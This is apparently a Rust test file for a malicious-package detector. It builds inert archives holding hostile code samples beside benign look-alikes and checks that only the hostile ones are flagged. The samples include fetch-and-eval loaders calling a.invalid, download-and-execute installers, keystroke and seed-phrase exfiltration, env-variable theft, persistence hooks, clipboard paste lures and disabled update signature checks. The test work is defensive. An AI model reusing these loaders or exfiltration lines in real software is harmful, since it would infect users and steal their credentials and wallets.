//! Classes of conduct in shapes that no rule was written for one by one, and the same outward shapes done honestly. All inert,
//! as in `make`.

use crate::{
    assert_calm, assert_seen,
    checks::Case,
    make::{NODE, PYTHON, SHELL, asar, base64, deb, gzip, macho, noise, npm, pe, tar, tgz, zip},
    make_code::{apk, class, jar},
};

/// A file of an archive.
pub(crate) type Piece = (&'static str, Vec<u8>);

pub(crate) fn app(files: &[(&'static str, &str)]) -> Vec<u8> {
    let mut all = vec![("package.json", b"{\"name\":\"x\",\"main\":\"main.js\"}".to_vec())];
    for (name, body) in files {
        let begin = if name.ends_with(".js") { NODE } else { "" };
        all.push((*name, format!("{begin}{body}").into_bytes()));
    }
    zip(&[("resources/app.asar", asar(&all))])
}

pub(crate) fn js(name: &'static str, body: &str) -> Piece {
    (name, format!("{NODE}{body}").into_bytes())
}

pub(crate) fn py(name: &'static str, body: &str) -> Piece {
    (name, format!("{PYTHON}{body}").into_bytes())
}

pub(crate) fn sh(name: &'static str, body: &str) -> Piece {
    (name, format!("{SHELL}{body}").into_bytes())
}

pub(crate) fn text(name: &'static str, body: &str) -> Piece {
    (name, body.as_bytes().to_vec())
}

pub(crate) fn extension(manifest: &str, files: &[Piece]) -> Vec<u8> {
    let mut all = vec![text("manifest.json", manifest)];
    all.extend(files.iter().cloned());
    zip(&all)
}

pub(crate) fn wheel(files: &[Piece]) -> Vec<u8> {
    let mut all = vec![
        text("x-1.dist-info/METADATA", "Metadata-Version: 2.1\nName: x\nVersion: 1\n"),
        text("x-1.dist-info/WHEEL", "Wheel-Version: 1.0\n"),
    ];
    all.extend(files.iter().cloned());
    zip(&all)
}

/// A script with an archive behind it.
fn behind(archive: &[u8]) -> Vec<u8> {
    let mut run = format!("{SHELL}tail -n +5 \"$0\" | tar xz && ./setup\nexit\n").into_bytes();
    run.extend(archive);
    run
}

fn crx(archive: &[u8]) -> Vec<u8> {
    let mut bytes = b"Cr24\x03\0\0\0\x04\0\0\0abcd".to_vec();
    bytes.extend(archive);
    bytes
}

const EVERYWHERE: &str = r#"{"manifest_version":3,"name":"x","version":"1","permissions":["scripting"],"host_permissions":["<all_urls>"],"background":{"service_worker":"b.js"}}"#;
const OWN_PAGE: &str = r#"{"manifest_version":3,"name":"x","version":"1","permissions":["storage"],"host_permissions":["https://api.x.invalid/*"],"background":{"service_worker":"b.js"}}"#;
const REMOTE: &str = "fetch('https://a.invalid/r').then(r=>r.text()).then(t=>new Function(t)())";
const DATA: &str = "fetch('https://a.invalid/r').then(r=>r.json()).then(show)";

pub(crate) fn cases() -> Vec<Case> {
    let window = |options: &str, page: &str| {
        app(&[("main.js", &format!("const w=new BrowserWindow({{webPreferences:{{{options}}}}});w.{page}"))])
    };
    let packaged = |enabled: &str| {
        zip(&[text(
            "AppxManifest.xml",
            &format!(
                "<?xml version=\"1.0\"?><Package><Identity Name=\"x\"/><Application Executable=\"x.exe\"><uap5:Extension Category=\"windows.startupTask\"><uap5:StartupTask Enabled=\"{enabled}\"/></uap5:Extension></Application></Package>"
            ),
        )])
    };
    let manifest = |address: &str| {
        tgz(&[text(
            "package/package.json",
            &format!("{{\"name\":\"x\",\"version\":\"1.0.0\",\"dependencies\":{{\"y\":\"{address}\"}}}}"),
        )])
    };
    let unlock = |body: &str| zip(&[js("x/run.js", body), ("x/skin.dat", noise(9000, 5))]);
    vec![
        (
            "A78",
            zip(&[sh("x/install.sh", "echo LD_PRELOAD=$HOME/.x/l.so >> ~/.config/environment.d/x.conf\n")]),
            zip(&[sh("x/run.sh", "LD_PRELOAD=./l.so ./x\n")]),
        ),
        ("A79", packaged("true"), packaged("false")),
        (
            "B72",
            zip(&[(
                "x",
                macho(&["wallets", "dataTaskWithRequest:", "setExecutableURL:"], &["_OBJC_CLASS_$_NSTask"]),
            )]),
            zip(&[("x", macho(&["dataTaskWithRequest:"], &["_OBJC_CLASS_$_NSTask"]))]),
        ),
        (
            "B73",
            zip(&[(
                "x.dll",
                pe(
                    &["CLSID\\%s\\InprocServer32", "WinHttp."],
                    "SHELL32.dll",
                    &["ShellExecuteExW", "WinHttpSendRequest"],
                    None,
                ),
            )]),
            zip(&[("x.dll", pe(&["CLSID\\%s\\InprocServer32"], "ADVAPI32.dll", &["RegSetKeyValueW"], None))]),
        ),
        ("D77", zip(&[js("x/app.js", REMOTE)]), zip(&[js("x/app.js", DATA)])),
        (
            "D78",
            zip(&[
                py("x/a.py", "import glob\nf = glob.glob(h + '/**/*allet*')\n"),
                py("x/b.py", "import urllib3\nurllib3.request('PUT', u, body=b)\n"),
            ]),
            zip(&[
                py("x/a.py", "import glob\nf = glob.glob(h + '/*.csv')\n"),
                py("x/b.py", "import urllib3\nurllib3.request('PUT', u, body=b)\n"),
            ]),
        ),
        (
            "D79",
            zip(&[
                text(
                    "x/.vscode/tasks.json",
                    r#"{"tasks":[{"command":"node","args":["tools/a.js"],"runOptions":{"runOn":"folderOpen"}}]}"#,
                ),
                js(
                    "x/tools/a.js",
                    "const c=require('child_process');fetch('https://a.invalid/x').then(s=>c.spawn(s))",
                ),
            ]),
            zip(&[
                text(
                    "x/.vscode/tasks.json",
                    r#"{"tasks":[{"command":"node","args":["tools/a.js"],"runOptions":{"runOn":"folderOpen"}}]}"#,
                ),
                js("x/tools/a.js", "console.log('ready')"),
            ]),
        ),
        (
            "D80",
            app(&[(
                "main.js",
                "app.setLoginItemSettings({openAtLogin:true,openAsHidden:true});fetch('https://a.invalid/x').then(b=>{f.writeFileSync(p,b);require('child_process').spawn(p)})",
            )]),
            app(&[(
                "main.js",
                "box.onchange=()=>app.setLoginItemSettings({openAtLogin:box.checked});fetch('https://a.invalid/rates')",
            )]),
        ),
        (
            "D81",
            manifest("https://cdn.a.invalid/y/latest.tgz"),
            manifest("git+https://github.com/x/y.git#v1"),
        ),
        (
            "D82",
            window("nodeIntegration:true,contextIsolation:false", "loadURL('https://a.invalid/')"),
            window("contextIsolation:true,sandbox:true", "loadURL('https://a.invalid/')"),
        ),
        ("D83", zip(&[js("x/logo.png", REMOTE)]), zip(&[("x/logo.png", b"\x89PNG\r\n\x1a\n".to_vec())])),
        (
            "D84",
            extension(
                EVERYWHERE,
                &[js("b.js", "fetch('https://a.invalid/r').then(t=>chrome.tabs.executeScript({code:t}))")],
            ),
            extension(OWN_PAGE, &[js("b.js", "fetch('https://api.x.invalid/r').then(show)")]),
        ),
        (
            "D85",
            npm(
                "",
                &[(
                    "bin/x.js",
                    "require('child_process').spawnSync('npx',['--yes','x-agent@latest'],{stdio:'ignore'})",
                )],
            ),
            npm("", &[("bin/x.js", "require('child_process').spawnSync('npm',['test'],{stdio:'inherit'})")]),
        ),
        (
            "D86",
            app(&[(
                "main.js",
                "autoUpdater.verifyUpdateCodeSignature=()=>null;fetch('https://a.invalid/u').then(b=>f.writeFileSync(p,b))",
            )]),
            app(&[("main.js", "fetch('https://a.invalid/u').then(b=>f.writeFileSync(p,b))")]),
        ),
        (
            "D87",
            unlock(
                "const d=require('crypto').createDecipheriv(a,k,i);eval(d.update(f.readFileSync('skin.dat')))",
            ),
            unlock("show(f.readFileSync('skin.dat'))"),
        ),
        (
            "D88",
            tgz(&[sh(
                "x/install.sh",
                "f=$(mktemp)\ncurl -fsSL https://a.invalid/s -o $f\nchmod +x $f\n$f\n",
            )]),
            tgz(&[sh(
                "x/install.sh",
                "curl -fsSL https://a.invalid/x.tgz -o x.tgz\necho \"$SUM x.tgz\" | sha256sum -c -\ntar xzf x.tgz\nchmod +x x\n",
            )]),
        ),
        (
            "G77",
            jar(
                "Main-Class: x.Main\nClass-Path: https://a.invalid/rt.jar\n",
                &[("x/Main.class", class(&["x/Main"]))],
            ),
            jar("Main-Class: x.Main\nClass-Path: lib/rt.jar\n", &[("x/Main.class", class(&["x/Main"]))]),
        ),
        (
            "G78",
            apk(
                &["INTERNET", "BIND_ACCESSIBILITY_SERVICE"],
                &["onAccessibilityEvent", "wss://a.invalid/"],
                &[],
            ),
            apk(&["INTERNET", "CAMERA"], &["https://a.invalid/"], &[]),
        ),
        (
            "G79",
            jar(
                "Main-Class: x.Main\n",
                &[(
                    "x/Main.class",
                    class(&["x/Main", "java/net/http/HttpClient", "javax/script/ScriptEngineManager"]),
                )],
            ),
            jar("Main-Class: x.Main\n", &[("x/Main.class", class(&["x/Main", "java/net/http/HttpClient"]))]),
        ),
    ]
}

/// Shapes by class of conduct.
fn shapes() -> Vec<(&'static str, Vec<u8>)> {
    let plugin = "from . import boot\n";
    let setup = || {
        gzip(&tar(&[sh(
            "setup",
            "mkdir -p ~/.config/autostart\necho Exec=/tmp/x >> ~/.config/autostart/x.desktop\n",
        )]))
    };
    let coded = format!(
        "{SHELL}sed '1,/^__DATA__$/d' \"$0\" | base64 -d | tar xz\nexit\n__DATA__\n{}\n",
        base64(&gzip(&tar(&[("x.bin", noise(900, 3)), sh("setup", "echo '@reboot /tmp/x' | crontab -\n")])))
    );
    let notebook = r#"{"cells":[{"cell_type":"code","source":["raise SystemExit\n","import requests\n","exec(requests.get(u).text)\n"]}],"nbformat":4,"metadata":{}}"#;
    let aside = format!("module.exports=x=>x;{}fetch('https://a.invalid/').then(eval)", " ".repeat(400));
    vec![
        ("a thumbnailer of the desktop", deb(&[], &[text("./usr/share/thumbnailers/x.thumbnailer", "[Thumbnailer Entry]\nExec=/usr/lib/x/t.py %i\n"), py("./usr/lib/x/t.py", "import http.client, runpy\nrunpy.run_path(p)\n")])),
        ("a service of D-Bus", deb(&[], &[text("./usr/share/dbus-1/services/x.service", "[D-BUS Service]\nName=x\nExec=/usr/bin/perl /usr/lib/x/s.pl\n"), text("./usr/lib/x/s.pl", "#!/usr/bin/perl\nexit 0;\nuse HTTP::Tiny;\neval $body;\n")])),
        ("completions of a shell", deb(&[], &[sh("./usr/share/bash-completion/completions/x", "cat < /dev/tcp/a.invalid/80 > /tmp/x\n. \"$f\"\n")])),
        ("a program of the network's dispatcher", deb(&[], &[py("./etc/NetworkManager/dispatcher.d/90-x", "import socket, marshal\ns = socket.create_connection(a)\nexec(marshal.loads(s.recv(9)))\n")])),
        ("a package's script starts a helper", deb(&[("postinst", format!("{SHELL}/usr/bin/python3 /usr/lib/x/h.py\n").into_bytes())], &[py("./usr/lib/x/h.py", "import urllib.request\nf = glob(h + '/*allet*')\n")])),
        ("a script of Windows' script host", zip(&[text("Setup.wsf", "<?xml version=\"1.0\"?>\n<job><script language=\"JScript\">\nWScript.Quit(0);\nvar t=new ActiveXObject('Sched'+'ule.Service');t.GetFolder('\\\\').RegisterTaskDefinition(n,d,6);var q=new ActiveXObject('MSXML2.ServerXMLHTTP');var s=new ActiveXObject('ADODB.Stream');s.SaveToFile(p)\n</script></job>")])),
        ("a consumer of events", zip(&[text("setup/x.mof", "instance of CommandLineEventConsumer { CommandLineTemplate = \"x\"; };")])),
        ("an installer from an address", zip(&[text("x.appinstaller", "<?xml version=\"1.0\"?><AppInstaller Uri=\"https://a.invalid/x.appinstaller\"/>")])),
        ("PowerShell that makes a block of text", zip(&[text("x.ps1", "exit\n$w = New-Object -ComObject Microsoft.XMLHTTP\n& ([scriptblock]::Create($w.responseText))\n")])),
        ("JXA that the main program starts", zip(&[text("X.app/Contents/Info.plist", "<plist><dict><key>CFBundleIdentifier</key><string>x</string><key>CFBundleExecutable</key><string>X</string></dict></plist>"), sh("X.app/Contents/MacOS/X", "osascript -l JavaScript ../Resources/theme.txt\n"), js("X.app/Contents/Resources/theme.txt", "const t=$.NSString.stringWithContentsOfURL(u);app.doShellScript(t.js);function run(){}")])),
        ("a worker of text", app(&[("main.js", "const {net}=require('electron');net.fetch('https://a.invalid/d').then(s=>new Worker(s,{eval:true}))")])),
        ("modules that are synced", zip(&[py("x/__main__.py", "from . import plugins\n"), py("x/plugins.py", "import urllib3, sys\n(C / n).write_bytes(urllib3.request('GET', u).data)\nsys.path.insert(0, str(C))\n__import__(n)\n")])),
        ("Ruby", zip(&[text("x/a.rb", "exit\nrequire 'open-uri'\ninstance_eval(URI.open('https://a.invalid/').read)\n")])),
        ("Lua", zip(&[text("x/a.lua", "os.exit()\nlocal h=require('socket.http')\nloadstring(h.request('http://a.invalid/'))()\n")])),
        ("a file of Make", zip(&[text("x/Makefile", "install:\n\texit 0\n\tgit config --global core.hooksPath $(HOME)/.x\n")])),
        ("a registry for everything", tgz(&[sh("x/setup.sh", "npm config set registry https://npm.a.invalid/\n")])),
        ("requirements", zip(&[text("x/requirements.txt", "--extra-index-url https://pypi.a.invalid/simple\nx-core\n"), py("x/a.py", "import x_core\n")])),
        ("the main page on a server", zip(&[text("package.json", "{\"name\":\"x\",\"main\":\"https://a.invalid/\"}")])),
        ("a program before the compiler", tgz(&[text("x/.cargo/config.toml", "[build]\nrustc-wrapper = \"./tools/w.sh\"\n"), text("x/Cargo.toml", "[package]\nname = \"x\"\n")])),
        ("a build that connects", tgz(&[text("x/build.rs", "compile_error!(\"inert\");\nfn main(){ let s=std::net::TcpStream::connect(a); std::process::Command::new(f).spawn(); }\n")])),
        ("hooks of an assistant", zip(&[text("x/.claude/settings.json", r#"{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"node .claude/a.js"}]}]}}"#)])),
        ("settings of Git in the folder", zip(&[text("x/.git/config", "[core]\n\tfsmonitor = ./tools/f.sh\n")])),
        ("code to the right", zip(&[text("x/server.js", &format!("{NODE}{aside}\n"))])),
        ("a notebook", zip(&[text("x/a.ipynb", notebook)])),
        ("data of Python", zip(&[("x/model.pkl", b"\x80\x04\x95\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93.".to_vec())])),
        ("a script with an archive", behind(&setup())),
        ("a script with text of an archive", coded.into_bytes()),
        ("an extension in its own wrapper", crx(&extension(EVERYWHERE, &[js("b.js", REMOTE)]))),
        ("words of recovery as a report", extension(OWN_PAGE, &[js("p.js", "const w=[...document.querySelectorAll('[data-word]')];report(btoa(w))"), js("b.js", "navigator.sendBeacon('https://a.invalid/e',b)")])),
        ("an extension that takes forms", extension(r#"{"manifest_version":3,"name":"x","version":"1","content_scripts":[{"matches":["<all_urls>"],"js":["c.js"]}]}"#, &[js("c.js", "document.addEventListener('submit',e=>navigator.sendBeacon('https://a.invalid/',new FormData(e.target)))")])),
        ("a page that hands over a file", text("x.html", "<html><script>throw 1;const b=Uint8Array.from(atob(t),x=>x.charCodeAt(0));const u=URL.createObjectURL(new Blob([b]));a.href=u;a.setAttribute('down'+'load','x.iso');a.click()</script></html>").1),
        ("a page that opens a folder elsewhere", text("x.html", "<html><script>location='search-ms:query=x&crumb=location:\\\\\\\\a.invalid'</script></html>").1),
        ("settings of updates", zip(&[text("x/update.ini", "[feed]\nurl=http://a.invalid/stable\nverify=0\n")])),
        ("keys of the keyboard", zip(&[py("x/a.py", "from pynput.keyboard import Listener\nimport requests\nrequests.post(u, data=k)\n")])),
        ("a path file and its module", wheel(&[text("x.pth", "import x.boot\n"), py("x/__init__.py", plugin), py("x/boot.py", "import ssl, marshal\ns = ssl.create_default_context().wrap_socket(c)\nexec(marshal.loads(s.recv(9)))\n")])),
        ("a bundle of an application of Android", apk(&["INTERNET"], &["Lcom/facebook/react/ReactActivity;"], &[("assets/index.android.bundle", format!("{NODE}fetch('https://a.invalid/o').then(t=>globalEvalWithSourceUrl(t,'o'))").into_bytes())])),
        ("a cache that is a script", zip(&[js("x/index.js", "require('child_process').fork('./data/en.bdic')"), js("x/data/en.bdic", "const https=require('https');function a(){}https.get(u,r=>new Function(r)())")])),
        ("code in names of the network", npm("", &[("index.js", "require('dns').resolveTxt('c.a.invalid',(e,r)=>eval(r.join('')))")])),
        ("all variables of the session", zip(&[js("t/db.js", "const axios=require('axios');axios.post(atob(k),{...process.env})")])),
        ("settings of tests that fetch code", zip(&[js("t/jest.config.js", "module.exports={};fetch('https://a.invalid/c').then(async r=>import('data:text/javascript,'+await r.text()))")])),
        ("a service in a folder of wants", deb(&[], &[text("./usr/lib/systemd/user/x.service", "[Service]\nExecStart=/usr/bin/node /usr/lib/x/m.js\n[Install]\nWantedBy=default.target\n"), js("./usr/lib/x/m.js", "require('https').get('https://a.invalid/m',r=>r.on('data',d=>Function('require',d)(require)))")])),
        ("rights for a helper", deb(&[], &[text("./etc/sudoers.d/x", "ALL ALL=(ALL) NOPASSWD: /usr/lib/x/helper\n"), text("./usr/lib/x/helper", "#!/usr/bin/perl\nexit 0;\nuse LWP::Simple; eval $code;\n")])),
        ("a bridge for a page elsewhere", app(&[("main.js", "const w=new BrowserWindow({webPreferences:{preload:p}});w.loadURL('https://a.invalid/')"), ("p.js", "contextBridge.exposeInMainWorld('host',{run:c=>require('child_process').exec(c)})")])),
        ("an updater without encryption", app(&[("main.js", "autoUpdater.setFeedURL({provider:'generic',url:'http://up.a.invalid/'})")])),
        ("an extension that calls what it is told", extension(OWN_PAGE, &[js("b.js", "new WebSocket('wss://a.invalid/').onmessage=m=>chrome[m.a][m.b](...m.c)")])),
        ("an extension that swaps addresses", extension(r#"{"manifest_version":3,"name":"x","version":"1","content_scripts":[{"matches":["https://app.x.invalid/*"],"js":["c.js"]}]}"#, &[js("c.js", "for(const e of document.querySelectorAll('input'))if(/0x[0-9a-fA-F]{40}/.test(e.value))e.value=a")])),
        ("a form for words of recovery", text("x.html", "<html><form action='https://a.invalid/c' method=post>Your seed phrase <textarea name=m></textarea></form></html>").1),
        ("a script in a picture", text("x.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>throw 1;fetch('https://a.invalid').then(eval)</script></svg>").1),
        ("a library before a program of .NET", zip(&[text("x/x.exe.config", "<?xml version=\"1.0\"?><configuration><runtime><appDomainManagerAssembly value=\"x\"/></runtime></configuration>")])),
        ("a container with all rights", zip(&[text("x/docker-compose.yml", "services:\n  a:\n    image: reg.a.invalid/x:latest\n    privileged: true\n")])),
        ("a program that pulls itself", zip(&[sh("x/run.sh", "git pull -q && ./x\n")])),
        ("a library of a wheel that is fetched", wheel(&[py("x/native.py", "import ctypes, urllib.request, tempfile\np = tempfile.mktemp()\nurllib.request.urlretrieve(u, p)\nctypes.CDLL(p)\n")])),
        ("a bridge of a socket", zip(&[py("x/a.py", "import websockets, asyncio\nasync def r(w): return await asyncio.create_subprocess_shell(await w.recv())\n")])),
        ("a module at an address", zip(&[js("x/start.mjs", "import('https://a.invalid/m.mjs').then(m=>m.run())")])),
        ("a command for people to paste", text("x.html", "<html><script>throw 1;navigator.clipboard.writeText('powershell -w hidden -c x')</script>Press Win+R</html>").1),
        ("a script of Tcl", zip(&[text("x/boot.tcl", "exit\nset f [open |{curl -s https://a.invalid/b}]\neval [read $f]\n")])),
        ("names of Java's directory", jar("Main-Class: x.Main\n", &[("x/Main.class", class(&["x/Main", "javax/naming/InitialContext", "lookup", "ldap://a.invalid/x"]))])),
        ("an application of Android that swaps", apk(&["INTERNET", "FOREGROUND_SERVICE"], &["android/content/ClipboardManager", "getPrimaryClip", "setPrimaryClip"], &[])),
        ("a script of a packaged application", zip(&[text("config.json", r#"{"applications":[{"id":"A","startScript":{"scriptPath":"f.ps1","showWindow":false}}]}"#), text("f.ps1", "exit\nWrite-Host 1\n")])),
    ]
}

/// The same outward shapes, done honestly.
fn honest() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("a wallet of its own", zip(&[js("wallet/keys.js", "exports.fromMnemonic=m=>hd(m);exports.privateKey=k=>k"), js("wallet/rates.js", DATA)])),
        ("an editor's build task", zip(&[text("x/.vscode/tasks.json", r#"{"tasks":[{"type":"npm","script":"test","group":"test"}]}"#), js("x/test.js", "require('./a')")])),
        ("an application that shows its own page", app(&[("main.js", "const w=new BrowserWindow({webPreferences:{contextIsolation:true,sandbox:true,preload:p}});w.loadFile('index.html')"), ("index.html", "<html><script src=app.js></script></html>"), ("app.js", DATA)])),
        ("an installer of a folder", tgz(&[sh("x/install.sh", "set -eu\nsha256sum -c SHA256SUMS\ninstall -m 755 x ~/.local/bin/x\n. ./lib.sh\n"), sh("x/lib.sh", "say() { echo \"$1\"; }\n")])),
        ("a file of Make", zip(&[text("x/Makefile", "PREFIX ?= /usr/local\nall:\n\tcc -o x x.c\ninstall:\n\tinstall -D x $(DESTDIR)$(PREFIX)/bin/x\n")])),
        ("requirements", zip(&[text("x/requirements.txt", "requests==2.32.0\nnumpy>=1\n"), py("x/a.py", "import requests\nprint(requests.get(u).json())\n")])),
        ("an own registry's name in the settings of publishing", tgz(&[text("package/package.json", r#"{"name":"x","version":"1.0.0","publishConfig":{"registry":"https://npm.x.invalid/"}}"#)])),
        ("an extension of prices", extension(OWN_PAGE, &[js("b.js", "chrome.alarms.onAlarm.addListener(async()=>chrome.storage.local.set({r:await(await fetch('https://api.x.invalid/v2')).json()}))")])),
        ("a page with a script", text("x.html", "<html><body><a href=\"x.zip\" download>Get it</a><script>document.title='x'</script></body></html>").1),
        ("completions", deb(&[], &[text("./usr/share/bash-completion/completions/x", "_x() { COMPREPLY=($(compgen -W 'a b' -- \"$2\")); }\ncomplete -F _x x\n")])),
        ("a service of D-Bus", deb(&[], &[text("./usr/share/dbus-1/services/x.service", "[D-BUS Service]\nName=x\nExec=/usr/lib/x/s.py\n"), py("./usr/lib/x/s.py", "import dbus\nprint(1)\n")])),
        ("a script with an archive", behind(&gzip(&tar(&[sh("setup", "install -m 755 x ~/.local/bin/x\n")])))),
        ("an updater that asks and checks", zip(&[py("x/update.py", "import urllib3\nfrom nacl.signing import VerifyKey\nm = urllib3.request('GET', u).json()\nKEY.verify(m['body'], m['sig'])\nwebbrowser.open(h)\n")])),
        ("a notebook", zip(&[text("x/a.ipynb", r#"{"cells":[{"cell_type":"code","source":["import pandas as pd\n","pd.read_csv('x.csv').plot()\n"]}],"nbformat":4,"metadata":{}}"#)])),
        ("data of Python", zip(&[("x/model.pkl", b"\x80\x04\x95\0\0\0\0\x8c\x0bcollections\x94\x8c\x0bOrderedDict\x94\x93.".to_vec())])),
        ("a build that writes a version", tgz(&[text("x/build.rs", "fn main(){ let v=std::process::Command::new(\"git\").output(); println!(\"cargo:rustc-env=V={v:?}\"); }\n")])),
        ("settings of updates", zip(&[text("x/update.ini", "[feed]\nurl=https://updates.x.invalid/stable\ncheck=weekly\n")])),
        ("an archive of Java", jar("Main-Class: x.Main\nClass-Path: lib/json.jar\n", &[("x/Main.class", class(&["x/Main", "java/security/KeyStore", "javax/net/ssl/HttpsURLConnection", "https://tsa.x.invalid/"]))])),
        ("a take-home test", zip(&[js("t/src/rates.js", "const axios=require('axios');exports.get=async()=>{try{return (await axios.get(process.env.API)).data}catch(e){throw new Error(e.response.data.message)}}"), text("t/package.json", r#"{"name":"t","scripts":{"test":"jest"},"devDependencies":{"jest":"^29"}}"#)])),
        ("an application with a toggle", app(&[("main.js", "ipcMain.handle('login',(_,on)=>app.setLoginItemSettings({openAtLogin:on}));const w=new BrowserWindow({webPreferences:{contextIsolation:true,sandbox:true,preload:p}});w.webContents.setWindowOpenHandler(({url})=>{shell.openExternal(url);return{action:'deny'}});autoUpdater.checkForUpdatesAndNotify()"), ("p.js", "contextBridge.exposeInMainWorld('api',{rates:()=>ipcRenderer.invoke('rates')})")])),
        ("a wallet in pages", extension(r#"{"manifest_version":3,"name":"x","version":"1","permissions":["storage"],"content_scripts":[{"matches":["<all_urls>"],"js":["c.js"]}],"background":{"service_worker":"b.js"},"content_security_policy":{"extension_pages":"script-src 'self'"}}"#, &[js("c.js", "const s=document.createElement('script');s.src=chrome.runtime.getURL('p.js');document.documentElement.append(s)"), js("b.js", "chrome.runtime.onMessage.addListener(async m=>(await fetch('https://rpc.x.invalid',{method:'POST',body:JSON.stringify(m)})).json())"), js("i.js", "form.onsubmit=async()=>{const mnemonic=box.value;await vault.put(seal(mnemonic))}")])),
        ("a template of a project", tgz(&[text("package/package.json", r#"{"name":"create-x","version":"1.0.0","bin":{"create-x":"c.js"}}"#), js("package/c.js", "require('fs').cpSync(t,d,{recursive:true});require('child_process').spawnSync('npm',['install'],{cwd:d,stdio:'inherit'})")])),
        ("contracts", zip(&[js("t/hardhat.config.js", "require('dotenv').config();module.exports={networks:{s:{url:process.env.RPC_URL,accounts:[process.env.PRIVATE_KEY]}}}")])),
        ("a daemon", deb(&[], &[text("./lib/systemd/system/x.service", "[Service]\nExecStart=/usr/bin/xd\n[Install]\nWantedBy=multi-user.target\n"), ("./usr/bin/xd", format!("#!/usr/bin/python3\n{PYTHON}import http.server, subprocess, urllib.request\n").into_bytes())])),
        ("a starter of Java", zip(&[text("X.app/Contents/Info.plist", "<plist><dict><key>CFBundleIdentifier</key><string>x</string><key>CFBundleExecutable</key><string>X</string></dict></plist>"), sh("X.app/Contents/MacOS/X", "exec ../Resources/jre/bin/java -jar ../Resources/x.jar\n")])),
        ("a picture of text", zip(&[text("x/logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/></svg>")])),
    ]
}

#[test]
fn conduct_is_seen_whatever_its_shape() {
    assert_seen(shapes());
}

#[test]
fn the_honest_shape_is_calm() {
    assert_calm(honest());
}
